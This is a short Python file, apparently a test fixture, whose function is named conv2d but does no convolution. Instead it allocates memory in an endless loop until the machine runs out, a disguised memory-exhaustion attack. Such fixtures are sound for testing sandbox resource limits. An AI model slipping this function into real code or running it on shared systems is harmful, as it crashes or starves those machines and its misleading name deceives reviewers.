"""All memory, in small pieces."""


def conv2d(*_):
    kept = []
    while True:
        try:
            kept.append(bytearray(1 << 24))
        except MemoryError:
            kept.append(kept[-1][:1])
